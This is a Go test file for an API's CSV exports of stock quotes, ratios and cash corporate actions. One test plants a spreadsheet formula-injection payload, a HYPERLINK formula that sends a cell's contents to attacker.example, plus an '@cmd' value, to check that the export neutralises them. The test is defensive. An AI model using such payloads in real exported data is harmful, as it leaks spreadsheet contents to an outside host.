package httpapi

import (
	"encoding/csv"
	"encoding/json"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/pregao/pregao/engine"
	"github.com/pregao/pregao/engine/ratios"
	"github.com/pregao/pregao/internal/csvcell"
	"github.com/pregao/pregao/snapshot/bundle"
)

func readCSV(t *testing.T, w *httptest.ResponseRecorder) [][]string {
	t.Helper()
	if w.Code != 200 || w.Header().Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Fatalf("status %d, Content-Type %q: %.300s", w.Code, w.Header().Get("Content-Type"), w.Body)
	}
	recs, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

func doAccept(ts *testServer, method, path, body, accept string) *httptest.ResponseRecorder {
	var r = httptest.NewRequest(method, path, strings.NewReader(body))
	r.Header.Set("Authorization", "Bearer "+testKeyDelayed)
	if accept != "" {
		r.Header.Set("Accept", accept)
	}
	w := httptest.NewRecorder()
	ts.api.ServeHTTP(w, r)
	return w
}

// A quote series as CSV holds the JSON's values as written (null empty),
// by format=csv or by Accept; format=json wins over Accept.
func TestCSVQuotes(t *testing.T) {
	ts := newTestServer(t, true)
	const path = "/v2/quotes/ENHZ3?start_date=2024-03-20&end_date=2024-03-27"
	jw := ts.do("GET", path, testKeyDelayed, "")
	var points []map[string]json.RawMessage
	if err := json.Unmarshal(jw.Body.Bytes(), &points); err != nil || len(points) < 2 {
		t.Fatalf("%v %d", err, len(points))
	}
	recs := readCSV(t, ts.do("GET", path+"&format=csv", testKeyDelayed, ""))
	if strings.Join(recs[0], ",") != "date,open_price,close_price,highest_price,lowest_price,volume,currency,variation,variation_value,adjustment_factor" || len(recs) != len(points)+1 {
		t.Fatalf("header %v, %d rows for %d points", recs[0], len(recs)-1, len(points))
	}
	for i, p := range points {
		for j, col := range recs[0] {
			want := strings.Trim(string(p[col]), `"`)
			if want == "null" {
				want = ""
			}
			if recs[i+1][j] != want {
				t.Errorf("row %d %s: %q, JSON %s", i, col, recs[i+1][j], p[col])
			}
		}
	}
	byAccept := doAccept(ts, "GET", path, "", "text/csv")
	if byAccept.Body.String() != ts.do("GET", path+"&format=csv", testKeyDelayed, "").Body.String() {
		t.Error("Accept: text/csv differs from format=csv")
	}
	if !strings.Contains(byAccept.Header().Get("Vary"), "Accept") || byAccept.Header().Get("ETag") == jw.Header().Get("ETag") {
		t.Errorf("Vary %q; ETag csv %s json %s", byAccept.Header().Get("Vary"), byAccept.Header().Get("ETag"), jw.Header().Get("ETag"))
	}
	if w := doAccept(ts, "GET", path+"&format=json", "", "text/csv"); w.Header().Get("Content-Type") != "application/json" {
		t.Errorf("format=json with Accept text/csv: %q", w.Header().Get("Content-Type"))
	}
	if w := doAccept(ts, "GET", path, "", "application/json;q=0.9, text/csv;q=0.5"); w.Header().Get("Content-Type") != "application/json" {
		t.Errorf("JSON preferred: %q", w.Header().Get("Content-Type"))
	}
	// A batch by Accept: ticker first, the unknown ticker's error in its row.
	recs = readCSV(t, doAccept(ts, "POST", "/v2/quotes", `{"tickers":["ENHZ3","XXXX3"],"type":"current"}`, "text/csv"))
	if recs[0][0] != "ticker" || len(recs) != 3 || recs[1][0] != "ENHZ3" || recs[2][0] != "XXXX3" || !strings.Contains(strings.Join(recs[2], ","), "Ticker not found") {
		t.Errorf("batch CSV: %v", recs)
	}
	recs = readCSV(t, ts.do("GET", "/v2/quotes/ENHZ3?type=chart&format=csv", testKeyDelayed, ""))
	if recs[0][0] != "preset" || recs[1][0] != "1d" {
		t.Errorf("chart CSV: %v", recs[:2])
	}
	checkError(t, ts.do("GET", path+"&format=xml", testKeyDelayed, ""), 400, "format")
}

// Ratios and cash actions have their CSV forms; an answer too large for
// one is a 400 that says what to ask instead.
func TestCSVRatiosAndCash(t *testing.T) {
	ts := newTestServer(t, true)
	recs := readCSV(t, ts.do("GET", "/v2/companies/ENHZ/ratios?frequency=ANNUAL&format=csv", testKeyDelayed, ""))
	if recs[0][0] != "indicator" || recs[0][1] != "frequency" || recs[1][1] != "ANNUAL" || len(recs) < 3 {
		t.Errorf("ratios CSV: %v", recs[:2])
	}
	recs = readCSV(t, ts.do("GET", "/v2/traded-funds/GSUL11/ratios?format=csv", testKeyDelayed, ""))
	if recs[0][0] != "indicator" || len(recs) < 2 {
		t.Errorf("fund ratios CSV: %v", recs[:1])
	}
	w := ts.do("GET", "/v2/companies/cash-corporate-actions?format=csv", testKeyDelayed, "")
	recs = readCSV(t, w)
	var items []json.RawMessage
	json.Unmarshal(ts.do("GET", "/v2/companies/cash-corporate-actions", testKeyDelayed, "").Body.Bytes(), &items)
	if len(recs) != len(items)+1 || recs[0][0] != "id" || recs[0][len(recs[0])-1] != "source_url" {
		t.Errorf("cash CSV: %d rows for %d items, header %v", len(recs)-1, len(items), recs[0])
	}
	recs = readCSV(t, ts.do("GET", "/v2/companies/ENHZ/cash-corporate-actions?format=csv&start_date=1990-01-01&end_date=1990-01-02", testKeyDelayed, ""))
	if len(recs) != 1 || recs[0][0] != "id" {
		t.Errorf("empty cash CSV: %v", recs)
	}
	defer func(n int) { maxCSVSource = n }(maxCSVSource)
	maxCSVSource = 10
	checkError(t, ts.do("GET", "/v2/companies/cash-corporate-actions?format=csv&current=false", testKeyDelayed, ""), 400, "too large for a CSV form")
}

// A cash action whose code is a formula reaches the CSV as text (the
// JSON keeps it as given); numeric cells, negative ones included, stay
// numbers.
func TestCSVFormulaCells(t *testing.T) {
	u, err := bundle.Read(smallBundle)
	if err != nil {
		t.Fatal(err)
	}
	d, err := ratios.Derive(u)
	if err != nil {
		t.Fatal(err)
	}
	u.Derived = d
	const formula = `=HYPERLINK("http://attacker.example/?"&A1,"click")`
	hit := -1
	for i := range u.CashActions {
		if u.CashActions[i].Ticker.String() == "ENHZ3" {
			hit = i
			break
		}
	}
	if hit < 0 {
		t.Fatal("no cash action of ENHZ3 in the small bundle")
	}
	u.CashActions[hit].Code = engine.MustLabel(formula)
	u.CashActions[hit].Protocol = "@cmd"
	ds, err := engine.Build(u)
	if err != nil {
		t.Fatal(err)
	}
	store := &engine.Store{}
	store.Publish(ds)
	ts := &testServer{store: store, reg: prometheus.NewRegistry()}
	ts.api = New(DefaultConfig(), store, testKeys(t), nil, ts.reg, nil)
	for _, path := range []string{"/v2/companies/ENHZ3/cash-corporate-actions?current=false", "/v2/companies/cash-corporate-actions?current=false&limit=1000"} {
		j := ts.do("GET", path, testKeyDelayed, "")
		if !strings.Contains(j.Body.String(), `"code":"=HYPERLINK(`) {
			t.Fatalf("%s: the JSON does not hold the code as given: %.300s", path, j.Body)
		}
		recs := readCSV(t, ts.do("GET", path+"&format=csv", testKeyDelayed, ""))
		col := map[string]int{}
		for i, c := range recs[0] {
			col[c] = i
		}
		found := false
		for _, r := range recs[1:] {
			if v := r[col["code"]]; strings.Contains(v, "HYPERLINK") {
				found = true
				if v != "'"+formula || r[col["protocol"]] != "'@cmd" {
					t.Errorf("%s: code %q protocol %q, want them neutralised", path, v, r[col["protocol"]])
				}
			}
			for c, i := range col {
				if v := r[i]; v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && !csvcell.PlainNumber(v) {
					t.Errorf("%s: column %s: formula cell %q", path, c, v)
				}
			}
		}
		if !found {
			t.Errorf("%s: the action is not in the CSV", path)
		}
	}
	// Negative numbers stay numbers (a quote series' variation).
	recs := readCSV(t, ts.do("GET", "/v2/quotes/ENHZ3?start_date=2024-01-01&end_date=2024-03-27&format=csv", testKeyDelayed, ""))
	neg := false
	for _, r := range recs[1:] {
		for _, v := range r {
			if strings.HasPrefix(v, "-") {
				neg = true
				if strings.HasPrefix(v, "'") {
					t.Errorf("a number neutralised: %q", v)
				}
			}
		}
	}
	if !neg {
		t.Error("no negative number in the quote series: the check checks nothing")
	}
}

// A CSV form's columns are its route's and request's, never the data's:
// an empty answer, an error among a batch's tickers, the tickers' order
// or an answer from the cache give the same header as a full answer.
func TestCSVColumnsFixed(t *testing.T) {
	ts := newTestServer(t, true)
	hist := "date,open_price,close_price,highest_price,lowest_price,volume,currency,variation,variation_value,adjustment_factor"
	cur := "date,open_price,close_price,highest_price,lowest_price,volume,currency,variation,variation_value"
	ratio := "indicator,frequency,value,format,reference_date,publish_date,retrieval_date"
	for _, c := range []struct {
		name, method, path, body, key, want string
	}{
		{"current batch, error last", "POST", "/v2/quotes/current.csv", `{"tickers":["ENHZ3","XXXX3"]}`, testKeyDelayed, "ticker," + cur + ",error"},
		{"current batch, error first", "POST", "/v2/quotes/current.csv", `{"tickers":["XXXX3","ENHZ3"]}`, testKeyDelayed, "ticker," + cur + ",error"},
		{"current batch, no error", "POST", "/v2/quotes/current.csv", `{"tickers":["ENHZ3"]}`, testKeyDelayed, "ticker," + cur + ",error"},
		{"current batch, again (cached)", "POST", "/v2/quotes/current.csv", `{"tickers":["ENHZ3"]}`, testKeyDelayed, "ticker," + cur + ",error"},
		{"current by type", "POST", "/v2/quotes", `{"tickers":["ENHZ3"],"type":"current"}`, testKeyDelayed, "ticker," + cur + ",error"},
		{"eod plan: current", "POST", "/v2/quotes", `{"tickers":["ENHZ3"]}`, testKeyEOD, "ticker," + cur + ",error"},
		{"one current", "GET", "/v2/quotes/ENHZ3?type=current&format=csv", "", testKeyDelayed, cur},
		{"historical batch, empty series", "POST", "/v2/quotes", `{"tickers":["ENHZ3","XXXX3"],"start_date":"2024-03-29","end_date":"2024-03-30"}`, testKeyDelayed, "ticker," + hist + ",error"},
		{"one historical, empty", "GET", "/v2/quotes/ENHZ3?start_date=2024-03-29&end_date=2024-03-30&format=csv", "", testKeyDelayed, hist},
		{"one historical", "GET", "/v2/quotes/ENHZ3?start_date=2024-03-20&end_date=2024-03-27&format=csv", "", testKeyDelayed, hist},
		{"chart batch", "POST", "/v2/quotes/chart.csv", `{"tickers":["ENHZ3","XXXX3"]}`, testKeyDelayed, "ticker,preset," + hist + ",error"},
		{"total return", "GET", "/v2/quotes/ENHZ3/total-return?format=csv", "", testKeyDelayed, "date,close_price,total_return_index,cash_value"},
		{"total return, empty", "GET", "/v2/quotes/ENHZ3/total-return?format=csv&start_date=2024-03-29&end_date=2024-03-30", "", testKeyDelayed, "date,close_price,total_return_index,cash_value"},
		{"ratios", "GET", "/v2/companies/ENHZ/ratios?frequency=ANNUAL&format=csv", "", testKeyDelayed, ratio},
		{"ratios, empty", "GET", "/v2/companies/ENHZ/ratios?publish_date=1990-01-01&format=csv", "", testKeyDelayed, ratio},
		{"ratios with calculation", "GET", "/v2/companies/ENHZ/ratios?frequency=ANNUAL&show_calculation=true&format=csv", "", testKeyDelayed, ratio + ",calculation"},
		{"fund ratios", "GET", "/v2/traded-funds/GSUL11/ratios?format=csv", "", testKeyDelayed, "indicator,frequency,value,reference_date,publish_date,retrieval_date"},
		{"cash", "GET", "/v2/companies/cash-corporate-actions?format=csv", "", testKeyDelayed, "id,company_id,ticker,stock_type,isin_code,approval_date,prior_ex_date,publish_date,payment_date,protocol,name,code,declared_value,monetary_correction,monetary_correction_start_date,monetary_correction_end_date,value,net_value,adjusted_declared_value,adjusted_monetary_correction,adjusted_value,adjusted_net_value,adjustment_factor,currency,source_url"},
		{"cash, empty", "GET", "/v2/companies/ENHZ/cash-corporate-actions?format=csv&start_date=1990-01-01&end_date=1990-01-02", "", testKeyDelayed, "id,company_id,ticker,stock_type,isin_code,approval_date,prior_ex_date,publish_date,payment_date,protocol,name,code,declared_value,monetary_correction,monetary_correction_start_date,monetary_correction_end_date,value,net_value,adjusted_declared_value,adjusted_monetary_correction,adjusted_value,adjusted_net_value,adjustment_factor,currency,source_url"},
	} {
		r := httptest.NewRequest(c.method, c.path, strings.NewReader(c.body))
		r.Header.Set("Authorization", "Bearer "+c.key)
		r.Header.Set("Accept", "text/csv") // the POST routes' way (format= is a query parameter of the GET ones)
		w := httptest.NewRecorder()
		ts.api.ServeHTTP(w, r)
		recs := readCSV(t, w)
		if got := strings.Join(recs[0], ","); got != c.want {
			t.Errorf("%s: header\n%s\nwant\n%s", c.name, got, c.want)
		}
	}
}
